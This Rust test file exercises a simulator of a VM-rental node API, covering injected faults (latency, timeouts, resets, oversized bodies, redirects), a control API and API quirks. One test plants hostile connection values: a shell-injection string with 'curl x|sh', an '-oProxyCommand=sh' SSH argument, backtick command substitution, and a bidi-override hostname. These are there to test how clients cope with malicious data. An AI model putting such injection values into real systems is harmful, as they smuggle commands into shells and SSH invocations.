//! Fault injection (in-process and over the /__sim HTTP control API) and quirk switches.

mod common;
use std::time::{Duration, Instant};

use common::*;
use dbc_sim::{Fault, FaultKind, HostileConnection, Quirks, SimConfig};
use serde_json::json;

#[tokio::test]
async fn latency_timeout_http500_garbage_reset() {
    let s = Sim::start(SimConfig::demo().with_speed(1000.0)).await;
    // latency, one-shot
    s.ctl
        .add_fault(Fault::on("tasks", FaultKind::Latency { ms: 120 }).times(1));
    let t0 = Instant::now();
    let (code, _) = s.ok_call("tasks", ALPHA, "1001", json!({})).await;
    assert_eq!(code, 0);
    assert!(t0.elapsed() >= Duration::from_millis(120));
    let t0 = Instant::now();
    s.ok_call("tasks", ALPHA, "1001", json!({})).await;
    assert!(
        t0.elapsed() < Duration::from_millis(100),
        "one-shot fault was consumed"
    );
    // gateway timeout after 30 s / speed, with the endpoint's message
    s.ctl
        .add_fault(Fault::on("tasks/start", FaultKind::Timeout).times(1));
    let (st, v) = s.call("tasks/start", ALPHA, "1001", linux_vm("1")).await;
    assert_eq!(
        (
            st,
            v["errcode"].as_i64().unwrap(),
            v["message"].as_str().unwrap()
        ),
        (500, -1, "create task timeout")
    );
    // the prefix did not match the detail path: untouched
    let (st, _) = s
        .call("tasks/DemoVmAlpha0000000001", ALPHA, "1001", json!({}))
        .await;
    assert_eq!(st, 200);
    // HTTP 500
    s.ctl.add_fault(Fault::global(FaultKind::Http500).times(2));
    let r = s.raw("POST", "/api/v1/", "").await;
    assert_eq!(r.status, 500);
    assert_eq!(r.json()["errcode"], -1);
    let (st, _) = s.call("tasks", ALPHA, "1001", json!({})).await;
    assert_eq!(st, 500);
    let (st, _) = s.call("tasks", ALPHA, "1001", json!({})).await;
    assert_eq!(st, 200);
    // garbage body
    s.ctl
        .add_fault(Fault::on("mining_nodes", FaultKind::Garbage).times(1));
    let r = s
        .raw(
            "POST",
            "/api/v1/mining_nodes",
            &json!({"peer_nodes_list": [], "additional": {}}).to_string(),
        )
        .await;
    assert_eq!(r.status, 200);
    assert!(serde_json::from_str::<serde_json::Value>(&r.text).is_err());
    // connection reset mid-response: the client sees an error while reading the body
    s.ctl.add_fault(Fault::on("tasks", FaultKind::Reset));
    let body = s.env(ALPHA, "1001", json!({}));
    let res = s
        .client
        .post(format!("{}/api/v1/tasks", s.url))
        .json(&body)
        .send()
        .await;
    let failed = match res {
        Err(_) => true,
        Ok(r) => r.text().await.is_err(),
    };
    assert!(failed, "reset fault must break the response");
    // sticky until cleared
    let res = s
        .client
        .post(format!("{}/api/v1/tasks", s.url))
        .json(&s.env(ALPHA, "1001", json!({})))
        .send()
        .await;
    assert!(match res {
        Err(_) => true,
        Ok(r) => r.text().await.is_err(),
    });
    s.ctl.clear_faults();
    let (st, _) = s.call("tasks", ALPHA, "1001", json!({})).await;
    assert_eq!(st, 200);
}

#[tokio::test]
async fn fail_next_step_ends_in_error_state() {
    let s = Sim::demo().await;
    s.ctl.fail_next("create");
    let (c, m) = s.ok_call("tasks/start", ALPHA, "1001", linux_vm("1")).await;
    assert_eq!(c, 0);
    let id = m["task_id"].as_str().unwrap().to_string();
    s.advance(601);
    let (_, d) = s
        .ok_call(&format!("tasks/{id}"), ALPHA, "1001", json!({}))
        .await;
    assert_eq!(d["status"], "create error");
    // only the next one
    let (_, m) = s.ok_call("tasks/start", ALPHA, "1001", json!({"gpu_count": "1", "image_name": "ubuntu-22.04.qcow2", "ssh_port": "20200", "vnc_port": "5950", "cpu_cores": "2", "mem_size": "4", "disk_size": "10"})).await;
    let id2 = m["task_id"].as_str().unwrap().to_string();
    s.advance(601);
    assert_eq!(s.ctl.task(ALPHA, &id2).unwrap().status, "running");
    // shutdown error via the fault list
    s.ctl.add_fault(Fault::global(FaultKind::FailNext {
        step: "shutdown".into(),
    }));
    let (c, _) = s
        .ok_call(&format!("tasks/shutdown/{id2}"), ALPHA, "1001", json!({}))
        .await;
    assert_eq!(c, 0);
    s.advance(3);
    assert_eq!(s.ctl.task(ALPHA, &id2).unwrap().status, "shutdown error");
}

#[tokio::test]
async fn control_http_api() {
    let s = Sim::start(SimConfig::demo().with_speed(1000.0)).await;
    let r = s.raw("GET", "/__sim/state", "").await;
    assert_eq!(r.status, 200);
    let st = r.json();
    assert_eq!(st["machines"].as_array().unwrap().len(), 5);
    assert_eq!(st["speed"], 1000.0);
    // add a fault over HTTP
    let r = s
        .raw(
            "POST",
            "/__sim/faults",
            &json!({"path": "tasks", "kind": "timeout", "times": 1}).to_string(),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let (st, v) = s.call("tasks", ALPHA, "1001", json!({})).await;
    assert_eq!(
        (st, v["message"].as_str().unwrap()),
        (500, "list task timeout")
    );
    // fail_next over HTTP, then clock advance over HTTP
    let r = s
        .raw(
            "POST",
            "/__sim/fail_next",
            &json!({"step": "create"}).to_string(),
        )
        .await;
    assert_eq!(r.status, 200);
    let (_, m) = s.ok_call("tasks/start", ALPHA, "1001", linux_vm("1")).await;
    let id = m["task_id"].as_str().unwrap().to_string();
    let r = s
        .raw(
            "POST",
            "/__sim/clock/advance",
            &json!({"secs": 1}).to_string(),
        )
        .await;
    assert_eq!(r.status, 200);
    assert_eq!(s.ctl.task(ALPHA, &id).unwrap().status, "create error");
    // machine status over HTTP
    let r = s
        .raw(
            "POST",
            &format!("/__sim/machines/{ALPHA}/status"),
            &json!({"status": "online"}).to_string(),
        )
        .await;
    assert_eq!(r.status, 200);
    let (_, v) = s.call("tasks", ALPHA, "1001", json!({})).await;
    assert_eq!(
        v["message"],
        "check authority failed: machine is not be rented"
    );
    // faults list + clear
    s.raw(
        "POST",
        "/__sim/faults",
        &json!([{"kind": "latency", "ms": 1}, {"path": "images", "kind": "http500"}]).to_string(),
    )
    .await;
    let r = s.raw("GET", "/__sim/faults", "").await;
    assert_eq!(r.json()["result"].as_array().unwrap().len(), 2);
    let r = s.raw("DELETE", "/__sim/faults", "").await;
    assert_eq!(r.status, 200);
    assert!(s.ctl.faults().is_empty());
    let r = s.raw("POST", "/__sim/faults", "{\"kind\":\"nope\"}").await;
    assert_eq!(r.status, 400);
    let r = s.raw("GET", "/__sim/nothing", "").await;
    assert_eq!(r.status, 404);
}

#[tokio::test]
async fn hostile_connection_values_replace_one_vms_details() {
    const VM: &str = "DemoVmAlpha0000000001";
    let s = Sim::start(SimConfig::demo().with_speed(1000.0)).await;
    let (_, other) = s.ok_call("tasks/start", ALPHA, "1001", linux_vm("1")).await;
    let other = other["task_id"].as_str().unwrap().to_string();
    let (_, honest) = s
        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
        .await;
    // Newlines and quotes too: the unescaped-JSON quirk (on in the demo) does not apply.
    let ip = "1.2.3.4\n; curl x|sh \"$(id)\"";
    s.ctl.add_fault(
        Fault::hostile_connection(
            VM,
            HostileConnection {
                ssh_ip: Some(ip.into()),
                user_name: Some("-oProxyCommand=sh".into()),
                vnc_port: Some("5901`id`".into()),
                ..Default::default()
            },
        )
        .times(2),
    );
    let (code, d) = s
        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
        .await;
    assert_eq!(code, 0);
    assert_eq!(d["ssh_ip"], ip);
    assert_eq!(d["user_name"], "-oProxyCommand=sh");
    assert_eq!(d["vnc_port"], "5901`id`");
    // what was not given stays as it is
    assert_eq!(d["ssh_port"], honest["ssh_port"]);
    assert_eq!(d["status"], honest["status"]);
    // other VMs and other requests are untouched
    let (_, o) = s
        .ok_call(&format!("tasks/{other}"), ALPHA, "1001", json!({}))
        .await;
    assert_eq!(o["ssh_ip"], honest["ssh_ip"]);
    let (code, _) = s.ok_call("tasks", ALPHA, "1001", json!({})).await;
    assert_eq!(code, 0);
    // `times` counts the details it changed
    let (_, d) = s
        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
        .await;
    assert_eq!(d["ssh_ip"], ip);
    let (_, d) = s
        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
        .await;
    assert_eq!(d, honest);
    assert!(s.ctl.faults().is_empty());

    // Over the HTTP control API (sticky until cleared), with a Unicode bidi override.
    let r = s
        .raw(
            "POST",
            "/__sim/faults",
            &json!({"path": format!("tasks/{VM}"), "kind": "hostile_connection",
                    "ssh_ip": "moc.live\u{202e}1.2.3.4", "ssh_port": "22 -oX"})
            .to_string(),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    for _ in 0..2 {
        let (_, d) = s
            .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
            .await;
        assert_eq!(d["ssh_ip"], "moc.live\u{202e}1.2.3.4");
        assert_eq!(d["ssh_port"], "22 -oX");
        assert_eq!(d["user_name"], honest["user_name"]);
    }
    let r = s.raw("GET", "/__sim/faults", "").await;
    assert_eq!(r.json()["result"][0]["kind"], "hostile_connection");
    s.raw("DELETE", "/__sim/faults", "").await;
    let (_, d) = s
        .ok_call(&format!("tasks/{VM}"), ALPHA, "1001", json!({}))
        .await;
    assert_eq!(d, honest);
}

#[test]
fn hostile_connection_faults_load_from_toml() {
    let cfg = SimConfig::from_toml_str(
        "[[faults]]\npath = \"tasks/vm1\"\nkind = \"hostile_connection\"\nuser_name = \"-o\"\n",
    )
    .unwrap();
    assert_eq!(
        cfg.faults,
        [Fault::hostile_connection(
            "vm1",
            HostileConnection {
                user_name: Some("-o".into()),
                ..Default::default()
            }
        )]
    );
}

#[tokio::test]
async fn quirks_on() {
    let s = Sim::demo().await;
    // image list key with a colon
    let (_, v) = s
        .post(
            "images",
            &json!({"peer_nodes_list": [ALPHA], "additional": {}}),
        )
        .await;
    assert!(v["message"][0].get("image_name:").is_some(), "{v}");
    // unescaped JSON: 500 response parse error, but the VM was created
    let mut vm = linux_vm("1");
    vm["desc"] = json!("my \"quoted\" vm");
    let (st, v) = s.call("tasks/start", ALPHA, "1001", vm).await;
    assert_eq!(
        (
            st,
            v["errcode"].as_i64().unwrap(),
            v["message"].as_str().unwrap()
        ),
        (500, -1, "response parse error")
    );
    let created = s
        .ctl
        .machine(ALPHA)
        .unwrap()
        .tasks
        .into_iter()
        .find(|t| t.desc == "my \"quoted\" vm")
        .expect("created anyway");
    assert_eq!(created.status, "creating");
    // the list now breaks too
    let (st, _) = s.call("tasks", ALPHA, "1001", json!({})).await;
    assert_eq!(st, 500);
    // log query handling
    let id = "DemoVmAlpha0000000001";
    for i in 0..150 {
        s.ctl.push_log(ALPHA, id, &format!("line {i:03}"));
    }
    let (_, l) = s
        .ok_call(
            &format!("tasks/logs/{id}?line_num=5"),
            ALPHA,
            "1001",
            json!({}),
        )
        .await;
    assert_eq!(
        l["log_content"].as_array().unwrap().len(),
        100,
        "flag absent: 100 lines, line_num ignored"
    );
    let (_, l) = s
        .ok_call(
            &format!("tasks/logs/{id}?flag=head&line_num=500"),
            ALPHA,
            "1001",
            json!({}),
        )
        .await;
    assert_eq!(
        l["log_content"].as_array().unwrap().len(),
        99,
        "> 100 becomes 99"
    );
    for q in ["flag=tail&line_num=0", "flag=head&line_num=abc"] {
        let (st, v) = s
            .call(&format!("tasks/logs/{id}?{q}"), ALPHA, "1001", json!({}))
            .await;
        assert_eq!(
            (
                st,
                v["errcode"].as_i64().unwrap(),
                v["message"].as_str().unwrap()
            ),
            (400, -25, "invalid line num")
        );
    }
    let (st, v) = s
        .call(
            &format!("tasks/logs/{id}?flag=middle"),
            ALPHA,
            "1001",
            json!({}),
        )
        .await;
    assert_eq!(
        (st, v["message"].as_str().unwrap()),
        (400, "head_or_tail is invalid\"")
    );
    // 8 KiB cap, whole lines
    for i in 0..100 {
        s.ctl
            .push_log(ALPHA, id, &format!("long {i} {}", "y".repeat(300)));
    }
    let (_, l) = s
        .ok_call(
            &format!("tasks/logs/{id}?flag=tail&line_num=50"),
            ALPHA,
            "1001",
            json!({}),
        )
        .await;
    let lines = l["log_content"].as_array().unwrap();
    let total: usize = lines.iter().map(|x| x.as_str().unwrap().len()).sum();
    assert!(total < 8192 && total + 380 > 8192 - 380, "{total}");
    assert!(lines.len() < 50);
    // a log line with a quote breaks the reply
    s.ctl.push_log(ALPHA, id, "path \"C:\\x\"");
    let (st, _) = s
        .call(
            &format!("tasks/logs/{id}?flag=tail&line_num=1"),
            ALPHA,
            "1001",
            json!({}),
        )
        .await;
    assert_eq!(st, 500);
    // upload progress: tracked under the full path
    let up = json!({"image_filename": "ubuntu-22.04.qcow2", "image_server": "dbc-image-center-2"});
    let (c, m) = s.ok_call("images/upload", ALPHA, "1001", up).await;
    assert_eq!(c, 0, "{m}");
    let (_, p) = s
        .ok_call(
            "images/uploadprogress",
            ALPHA,
            "1001",
            json!({"image_filename": "ubuntu-22.04.qcow2"}),
        )
        .await;
    assert_eq!(p, json!({"status": "done", "progress": "100%"}));
    let (_, p) = s
        .ok_call(
            "images/uploadprogress",
            ALPHA,
            "1001",
            json!({"image_filename": "/data/ubuntu-22.04.qcow2"}),
        )
        .await;
    assert_eq!(p["status"], "uploading");
    s.advance(121);
    let (_, v) = s
        .post(
            "images",
            &json!({"peer_nodes_list": [], "additional": {"image_server": "dbc-image-center-2"}}),
        )
        .await;
    assert!(
        v["message"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i["image_name"] == "ubuntu-22.04.qcow2"),
        "uploaded image on the server"
    );
}

#[tokio::test]
async fn quirks_off() {
    let s = Sim::start(
        SimConfig::demo()
            .with_speed(1.0)
            .with_quirks(Quirks::none()),
    )
    .await;
    let (_, v) = s
        .post(
            "images",
            &json!({"peer_nodes_list": [ALPHA], "additional": {}}),
        )
        .await;
    assert!(
        v["message"][0].get("image_name").is_some() && v["message"][0].get("image_name:").is_none(),
        "{v}"
    );
    let mut vm = linux_vm("1");
    vm["desc"] = json!("my \"quoted\" \\ vm");
    let (st, v) = s.call("tasks/start", ALPHA, "1001", vm).await;
    assert_eq!(st, 200);
    assert_eq!(v["message"]["desc"], "my \"quoted\" \\ vm");
    let id = "DemoVmAlpha0000000001";
    for i in 0..150 {
        s.ctl
            .push_log(ALPHA, id, &format!("line {i} {}", "z".repeat(100)));
    }
    let (_, l) = s
        .ok_call(
            &format!("tasks/logs/{id}?line_num=5"),
            ALPHA,
            "1001",
            json!({}),
        )
        .await;
    assert_eq!(l["log_content"].as_array().unwrap().len(), 5);
    let (_, l) = s
        .ok_call(
            &format!("tasks/logs/{id}?flag=head&line_num=500"),
            ALPHA,
            "1001",
            json!({}),
        )
        .await;
    assert_eq!(l["log_content"].as_array().unwrap().len(), 100);
    let (_, v) = s
        .call(
            &format!("tasks/logs/{id}?flag=middle"),
            ALPHA,
            "1001",
            json!({}),
        )
        .await;
    assert_eq!(v["message"], "head_or_tail is invalid");
    s.ok_call(
        "images/upload",
        ALPHA,
        "1001",
        json!({"image_filename": "ubuntu-22.04.qcow2", "image_server": "dbc-image-center-2"}),
    )
    .await;
    let (_, p) = s
        .ok_call(
            "images/uploadprogress",
            ALPHA,
            "1001",
            json!({"image_filename": "ubuntu-22.04.qcow2"}),
        )
        .await;
    assert_eq!(p["status"], "uploading");
}

#[tokio::test]
async fn huge_body_is_generated_as_it_is_read() {
    let s = Sim::start(SimConfig::demo().with_speed(1000.0)).await;
    // Chunked (no length announced), over HTTP: read 1 MiB of it, then hang up.
    let r = s
        .raw(
            "POST",
            "/__sim/faults",
            &json!({"path": "tasks", "kind": "huge_body", "times": 1}).to_string(),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let mut resp = s
        .client
        .post(format!("{}/api/v1/tasks", s.url))
        .json(&s.env(ALPHA, "1001", json!({})))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.content_length(), None, "sent chunked");
    let mut got = Vec::new();
    while got.len() < 1 << 20 {
        got.extend_from_slice(&resp.chunk().await.unwrap().expect("more body"));
    }
    assert!(got.starts_with(b"{\"errcode\":0,\"message\":\"xxxx"));
    drop(resp);
    // The generator stops with the reader: far less than the 300 MB it would have sent.
    tokio::time::sleep(Duration::from_millis(200)).await;
    let sent = s.ctl.huge_body_bytes_sent();
    assert!(
        (1 << 20..64 << 20).contains(&sent),
        "{sent} bytes generated"
    );
    // one-shot: the next request is answered normally
    let (code, _) = s.ok_call("tasks", ALPHA, "1001", json!({})).await;
    assert_eq!(code, 0);

    // Announced length, in-process: every byte arrives and the head says how many.
    s.ctl.add_fault(
        Fault::on(
            "tasks",
            FaultKind::HugeBody {
                bytes: 3_000_000,
                announce_length: true,
            },
        )
        .times(1),
    );
    let before = s.ctl.huge_body_bytes_sent();
    let resp = s
        .client
        .post(format!("{}/api/v1/tasks", s.url))
        .json(&s.env(ALPHA, "1001", json!({})))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.content_length(), Some(3_000_000));
    assert_eq!(resp.bytes().await.unwrap().len(), 3_000_000);
    assert_eq!(s.ctl.huge_body_bytes_sent() - before, 3_000_000);
}

#[tokio::test]
async fn redirect_answers_with_a_location_and_does_nothing() {
    let s = Sim::start(SimConfig::demo().with_speed(1000.0)).await;
    let no_follow = http_builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    s.ctl.add_fault(
        Fault::on(
            "tasks/start",
            FaultKind::Redirect {
                status: 307,
                location: "http://127.0.0.1:9/api/v1/tasks/start".into(),
            },
        )
        .times(1),
    );
    let resp = no_follow
        .post(format!("{}/api/v1/tasks/start", s.url))
        .json(&s.env(ALPHA, "1001", linux_vm("1")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 307);
    assert_eq!(
        resp.headers()["location"],
        "http://127.0.0.1:9/api/v1/tasks/start"
    );
    // the VM was not created
    assert_eq!(s.ctl.machine(ALPHA).unwrap().tasks.len(), 1);
    // status defaults to 307 in the JSON form
    let r = s
        .raw(
            "POST",
            "/__sim/faults",
            &json!({"kind": "redirect", "location": "https://elsewhere.example/"}).to_string(),
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let resp = no_follow
        .post(format!("{}/api/v1/", s.url))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 307);
    assert_eq!(resp.headers()["location"], "https://elsewhere.example/");
}
